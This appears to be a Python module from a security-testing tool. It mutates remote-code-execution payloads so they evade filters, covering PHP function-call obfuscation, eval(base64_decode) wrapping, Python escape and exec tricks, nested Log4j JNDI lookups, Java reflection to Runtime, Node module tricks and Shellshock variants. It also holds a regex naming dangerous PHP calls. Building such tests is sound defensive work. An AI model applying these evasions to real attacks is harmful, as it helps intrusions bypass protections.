"""PHP, Python, Java's expression languages, Log4j lookups and serialised objects.

Source: the PHP manual (variable functions, strings, name resolution), the Python reference (PEP 3131 on identifiers, string
literals), Log4j 2's manual on lookups and `StrSubstitutor`, JSR 341 (EL) and the SpEL and OGNL references.
"""

import base64
import gzip
import re
from random import Random

from .html import mixed
from .model import Attack, mutation

RCE = ("rce",)
PHP, PYTHON, LOG4J, JAVA, SERIALIZED = ("php",), ("python",), ("log4j",), ("java",), ("serialized",)
NODE = ("node",)

PHP_CALL = re.compile(
    r"(?<![\w$>:'\"\\])(?P<name>system|shell_exec|passthru|phpinfo|exec|assert|file_put_contents|readfile|eval|popen)\((?P<arguments>[^()]*(?:\([^()]*\)[^()]*)*)\)"
)
#: Constructs of the language, which are no functions and cannot be called by a variable.
CONSTRUCTS = ("eval", "include", "require", "print", "isset")


def php_calls(attack: Attack, write) -> str:
    """The payload with calls of PHP's functions written otherwise."""
    return PHP_CALL.sub(lambda m: write(m["name"], m["arguments"]) or m[0], attack.payload)


@mutation("php-case", RCE, "Names of functions have no case.", PHP)
def php_case(attack: Attack, rng: Random) -> str:
    """Mixed case."""
    return php_calls(attack, lambda name, args: f"{mixed(name, rng)}({args})")


@mutation("php-blanks", RCE, "Blanks may stand before the parenthesis.", PHP)
def php_blanks(attack: Attack, rng: Random) -> str:
    """`system (`."""
    return php_calls(attack, lambda name, args: f"{name}{rng.choice((' ', chr(9), chr(10)))}({args})")


@mutation("php-comments", RCE, "Comments may stand between tokens.", PHP)
def php_comments(attack: Attack, rng: Random) -> str:
    """`system/**/(`."""
    return php_calls(
        attack, lambda name, args: f"{name}{rng.choice(('/**/', '/*x*/', '#' + chr(10), '//y' + chr(10)))}({args})"
    )


@mutation("php-namespace", RCE, "A leading backslash names the global function.", PHP)
def php_namespace(attack: Attack, rng: Random) -> str:
    """`\\system(`."""
    return php_calls(attack, lambda name, args: None if name in CONSTRUCTS else f"\\{name}({args})")


@mutation("php-variable-function", RCE, "A string in front of parentheses names the function that is called.", PHP)
def php_variable_function(attack: Attack, rng: Random) -> str:
    """`('sys'.'tem')(`."""

    def write(name: str, args: str) -> str | None:
        if name in CONSTRUCTS:
            return None
        at = rng.randrange(1, len(name))
        escaped = "".join(f"\\x{ord(c):02x}" for c in name)
        forms = (
            f"('{name[:at]}'.'{name[at:]}')({args})",
            f"('{name}')({args})",
            f'"{escaped}"({args})',
            f"(string)('{name}')({args})",
        )
        return rng.choice(
            forms[:3] if attack.context != "statement" else (*forms[:3], f"$f='{name[:at]}'.'{name[at:]}';$f({args})")
        )

    return php_calls(attack, write)


@mutation("php-callback", RCE, "These call the function they are given.", PHP)
def php_callback(attack: Attack, rng: Random) -> str:
    """`call_user_func('system',`."""

    def write(name: str, args: str) -> str | None:
        if name in CONSTRUCTS or not args:
            return None
        forms = (
            f"call_user_func('{name}',{args})",
            f"array_map('{name}',array({args}))",
            f"array_map('{name}',[{args}])",
            f"call_user_func_array('{name}',[{args}])",
        )
        return rng.choice(forms)

    return php_calls(attack, write)


@mutation("php-chr", RCE, "chr gives a letter, . joins.", PHP)
def php_chr(attack: Attack, rng: Random) -> str:
    """`(chr(115).chr(121)...)(`."""

    def write(name: str, args: str) -> str | None:
        return None if name in CONSTRUCTS else f"({'.'.join(f'chr({ord(c)})' for c in name)})({args})"

    return php_calls(attack, write)


@mutation("php-eval-base64", RCE, "eval runs a string, base64_decode gives it.", PHP)
def php_eval_base64(attack: Attack, rng: Random) -> str:
    """`eval(base64_decode('...'))`."""

    def write(name: str, args: str) -> str:
        code = base64.b64encode(f"{name}({args});".encode()).decode()
        return rng.choice((f"eval(base64_decode('{code}'))", f'eval(base64_decode("{code}"))'))

    return php_calls(attack, write)


@mutation("php-same-function", RCE, "system, passthru and shell_exec run the same command.", PHP)
def php_same_function(attack: Attack, rng: Random) -> str:
    """Another function that runs commands."""
    same = ("system", "passthru", "shell_exec", "exec")
    return php_calls(
        attack, lambda name, args: f"{rng.choice([s for s in same if s != name])}({args})" if name in same else None
    )


@mutation("php-tag", RCE, "PHP opens by <?php, <?= and, where short tags are on, <?.", PHP)
def php_tag(attack: Attack, rng: Random) -> str:
    """Another opening tag."""
    return re.sub(r"<\?php\s+", lambda m: rng.choice(("<?=", "<? ", "<?PHP ", "<?php\n", "<?pHp\t")), attack.payload)


@mutation("python-identifiers", RCE, "Identifiers are compared in their NFKC form (PEP 3131).", PYTHON)
def python_identifiers(attack: Attack, rng: Random) -> str:
    """Names in mathematical letters."""

    def write(match: re.Match) -> str:
        if match[0][0] in "'\"" or match[0] in ("import", "lambda", "for", "in", "if", "else", "not", "or", "and"):
            return match[0]
        return "".join(chr(0x1D5BA + ord(c) - 97) if "a" <= c <= "z" and i else c for i, c in enumerate(match[0]))

    return re.sub(r"'[^']*'|\"[^\"]*\"|[a-z]\w+", write, attack.payload)


@mutation("python-blanks", RCE, "Blanks may stand around dots and before parentheses.", PYTHON)
def python_blanks(attack: Attack, rng: Random) -> str:
    """`os . system (`."""
    return re.sub(
        r"'[^']*'|\"[^\"]*\"|(?<=\w)\(|(?<=[\w)])\.(?=\w)",
        lambda m: m[0] if m[0][0] in "'\"" else f" {m[0]}" + " " * (m[0] == "."),
        attack.payload,
    )


@mutation("python-getattr", RCE, "getattr gives the attribute that a string names.", PYTHON)
def python_getattr(attack: Attack, rng: Random) -> str:
    """`getattr(x,'sys'+'tem')`."""
    return re.sub(r"(__import__\('\w+'\))\.(\w)(\w+)(?=\()", r"getattr(\1,'\2'+'\3')", attack.payload)


@mutation("python-joined", RCE, "Strings side by side are joined, as by +.", PYTHON)
def python_joined(attack: Attack, rng: Random) -> str:
    """`'o''s'`."""
    join = rng.choice(("+", "", " "))
    return re.sub(r"'(\w)([\w ./-]+)'", rf"'\1'{join}'\2'", attack.payload)


@mutation("python-escapes", RCE, "String literals take \\x, \\u, octal and \\N escapes.", PYTHON)
def python_escapes(attack: Attack, rng: Random) -> str:
    """`'\\x6fs'`."""

    def write(match: re.Match) -> str:
        return "'" + "".join(rng.choice(("\\x{:02x}", "\\u{:04x}", "\\{:03o}")).format(ord(c)) for c in match[1]) + "'"

    return re.sub(r"'([\w ./-]+)'", write, attack.payload)


@mutation("python-exec", RCE, "exec and eval run a string.", PYTHON)
def python_exec(attack: Attack, rng: Random) -> str | None:
    """`exec(bytes.fromhex('...'))`."""
    if not re.match(r"__import__\(", attack.payload):
        return None
    code = attack.payload
    forms = (
        f"exec(bytes.fromhex('{code.encode().hex()}').decode())",
        f"eval(''.join(chr(c) for c in [{','.join(str(ord(c)) for c in code)}]))",
        f"exec(__import__('base64').b64decode('{base64.b64encode(code.encode()).decode()}'))",
        f"eval({code!r})",
    )
    return rng.choice(forms)


@mutation("python-same-function", RCE, "These all run a command.", PYTHON)
def python_same_function(attack: Attack, rng: Random) -> str:
    """Another function that runs commands."""
    options = (
        "__import__('os').popen({}).read()",
        "__import__('subprocess').getoutput({})",
        "__import__('subprocess').check_output({},shell=True)",
        "__import__('commands').getoutput({})",
    )
    return re.sub(
        r"__import__\('os'\)\.system\(('[^']*')\)", lambda m: rng.choice(options).format(m[1]), attack.payload
    )


def lookups(attack: Attack, write) -> str:
    """The payload with the letters of `jndi` and of its scheme written by lookups."""
    return re.sub(
        r"(?i)(?<=\$\{)(jndi)(?=:)|(?<=jndi:)(ldaps?|rmi|dns|iiop)(?=:)",
        lambda m: "".join(write(c) for c in m[0]),
        attack.payload,
    )


@mutation("log4j-lower", RCE, "${lower:x} is x (Log4j lookups).", LOG4J)
def log4j_lower(attack: Attack, rng: Random) -> str:
    """`${lower:j}`."""
    return lookups(attack, lambda c: rng.choice((f"${{lower:{c}}}", f"${{lower:{c.upper()}}}", f"${{lower:{c}}}", c)))


@mutation("log4j-upper", RCE, "${upper:x} is X, and lookup names have no case.", LOG4J)
def log4j_upper(attack: Attack, rng: Random) -> str:
    """`${upper:j}`."""
    return re.sub(r"(?<=\$\{)jndi(?=:)", lambda m: "".join(f"${{upper:{c}}}" for c in m[0]), attack.payload)


@mutation("log4j-default", RCE, "${name:-x} is x where nothing has the name (StrSubstitutor).", LOG4J)
def log4j_default(attack: Attack, rng: Random) -> str:
    """`${::-j}`, `${env:NONE:-j}`."""
    forms = ("${{::-{}}}", "${{env:QZ:-{}}}", "${{sys:none:-{}}}", "${{:-{}}}", "${{what:ever:-{}}}", "${{date:'{}'}}")
    return lookups(attack, lambda c: rng.choice(forms).format(c))


@mutation("log4j-nested", RCE, "Lookups nest, the inner ones are resolved first.", LOG4J)
def log4j_nested(attack: Attack, rng: Random) -> str:
    """`${lower:${::-j}}`."""
    return lookups(
        attack,
        lambda c: rng.choice((f"${{lower:${{::-{c.upper()}}}}}", f"${{${{::-l}}ower:{c}}}", f"${{::-${{::-{c}}}}}")),
    )


@mutation("log4j-case", RCE, "The name of a lookup has no case.", LOG4J)
def log4j_case(attack: Attack, rng: Random) -> str:
    """`${jNDI:`."""
    return re.sub(r"(?<=\$\{)jndi(?=:)", lambda m: mixed(m[0], rng), attack.payload)


@mutation(
    "log4j-special-letter", RCE, "Lower-casing makes k of the Kelvin sign and upper-casing I of the dotless i.", LOG4J
)
def log4j_special_letter(attack: Attack, rng: Random) -> str:
    """`${upper:x}` with the dotless i."""
    return re.sub(r"(?<=\$\{)jndi(?=:)", "jnd${upper:\u0131}", attack.payload)


@mutation("log4j-scheme", RCE, "JNDI knows several naming services.", LOG4J)
def log4j_scheme(attack: Attack, rng: Random) -> str:
    """Another scheme."""
    return re.sub(
        r"(?<=jndi:)(\w+)(?=:)",
        lambda m: rng.choice([s for s in ("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis", "nds") if s != m[1]]),
        attack.payload,
    )


@mutation("log4j-text-around", RCE, "A lookup is found anywhere in the text that is logged.", LOG4J)
def log4j_text_around(attack: Attack, rng: Random) -> str:
    """Text before and behind."""
    return f"{rng.choice(('sofa ', 'a=', '(de) ', '${', '$'))}{attack.payload}{rng.choice(('', ' bed', '}', '?'))}"


@mutation("java-joined", RCE, "+ and concat join strings in expressions.", JAVA)
def java_joined(attack: Attack, rng: Random) -> str:
    """`'java.lang.Run'+'time'`, `'who'.concat('ami')`."""
    quote = '"' if '"' in attack.payload else "'"

    def write(match: re.Match) -> str:
        at = rng.randrange(1, len(match[1]))
        left, right = match[1][:at], match[1][at:]
        return rng.choice(
            (f"({quote}{left}{quote}+{quote}{right}{quote})", f"{quote}{left}{quote}.concat({quote}{right}{quote})")
        )

    return re.sub(rf"{quote}([\w.]{{2,}}){quote}", write, attack.payload)


@mutation("java-blanks", RCE, "Blanks may stand between tokens of an expression.", JAVA)
def java_blanks(attack: Attack, rng: Random) -> str:
    """`T( java.lang.Runtime ).getRuntime ( )`."""
    return re.sub(r"'[^']*'|\"[^\"]*\"|[()]", lambda m: m[0] if m[0][0] in "'\"" else f" {m[0]} ", attack.payload)


@mutation("java-reflection", RCE, "A class can be had by its name.", JAVA)
def java_reflection(attack: Attack, rng: Random) -> str:
    """`''.getClass().forName(...)`."""
    quote = '"' if '"' in attack.payload else "'"
    new = f"{quote}{quote}.getClass().forName({quote}java.lang.Runtime{quote}).getMethod({quote}getRuntime{quote}).invoke(null)"
    return re.sub(r"T\(java\.lang\.Runtime\)\.getRuntime\(\)", new, attack.payload)


@mutation("java-escapes", RCE, "Java and OGNL read \\uXXXX in source and strings.", JAVA)
def java_escapes(attack: Attack, rng: Random) -> str:
    """`\\u0052untime`."""
    return re.sub(r"Runtime|ProcessBuilder", lambda m: f"\\u{ord(m[0][0]):04x}{m[0][1:]}", attack.payload)


@mutation("node-joined", RCE, "+ joins strings.", NODE)
def node_joined(attack: Attack, rng: Random) -> str:
    """`'child'+'_process'`."""
    return re.sub(r"'(\w{2})(\w+)'", r"'\1'+'\2'", attack.payload)


@mutation("node-escapes", RCE, "String literals take \\x and \\u escapes.", NODE)
def node_escapes(attack: Attack, rng: Random) -> str:
    """`'\\x63hild_process'`."""
    return re.sub(
        r"'(\w)(\w+)'",
        lambda m: f"'{rng.choice((chr(92) + 'x{:02x}', chr(92) + 'u{:04x}')).format(ord(m[1]))}{m[2]}'",
        attack.payload,
    )


@mutation("node-member", RCE, "A member can be named by a string.", NODE)
def node_member(attack: Attack, rng: Random) -> str:
    """`x['execSync'](`."""
    return re.sub(r"\.(exec|execSync|spawnSync|mainModule|require)\b", r"['\1']", attack.payload)


@mutation("node-prefix", RCE, "A built-in module may have the prefix node:.", NODE)
def node_prefix(attack: Attack, rng: Random) -> str:
    """`node:child_process`."""
    return attack.payload.replace("'child_process'", "'node:child_process'")


@mutation("node-comments", RCE, "Comments may stand between tokens.", NODE)
def node_comments(attack: Attack, rng: Random) -> str:
    """`require/**/(`."""
    return re.sub(r"(?<=\w)\((?=')", "/**/(", attack.payload)


@mutation("serial-gzip", RCE, "Viewstate and session stores keep objects compressed.", SERIALIZED)
def serial_gzip(attack: Attack, rng: Random) -> str | None:
    """base64 of gzip of the object."""
    if not re.fullmatch(r"[A-Za-z0-9+/]+=*", attack.payload):
        return None
    return base64.b64encode(gzip.compress(base64.b64decode(attack.payload), mtime=0)).decode()


@mutation("serial-hex", RCE, "Some frameworks write objects in hexadecimal.", SERIALIZED)
def serial_hex(attack: Attack, rng: Random) -> str | None:
    """The object in hexadecimal."""
    if not re.fullmatch(r"[A-Za-z0-9+/]+=*", attack.payload):
        return None
    return base64.b64decode(attack.payload).hex()


@mutation("serial-url-base64", RCE, "The alphabet of base64 for URLs, without padding.", SERIALIZED)
def serial_url_base64(attack: Attack, rng: Random) -> str | None:
    """base64url."""
    if not re.fullmatch(r"[A-Za-z0-9+/]+=*", attack.payload):
        return None
    new = attack.payload.replace("+", "-").replace("/", "_").rstrip("=")
    return new


@mutation("serial-lines", RCE, "MIME's base64 has lines.", SERIALIZED)
def serial_lines(attack: Attack, rng: Random) -> str | None:
    """base64 with line ends."""
    if not re.fullmatch(r"[A-Za-z0-9+/]+=*", attack.payload):
        return None
    return "\r\n".join(attack.payload[i : i + 60] for i in range(0, len(attack.payload), 60))


@mutation(
    "shellshock-spelling",
    RCE,
    "bash before its correction took anything that begins with `() {` for a function.",
    ("shellshock",),
)
def shellshock_spelling(attack: Attack, rng: Random) -> str:
    """Another function body."""
    return re.sub(
        r"^\(\) \{ :;\s*\};",
        lambda m: rng.choice(
            (
                "() { _; };",
                "() { a;}; ",
                "() { :; }; :;",
                "() { x() { _; }; x() { _; } <<z; };",
                "() { true;};",
                "() { (a)=>\\ };",
            )
        ),
        attack.payload,
    )
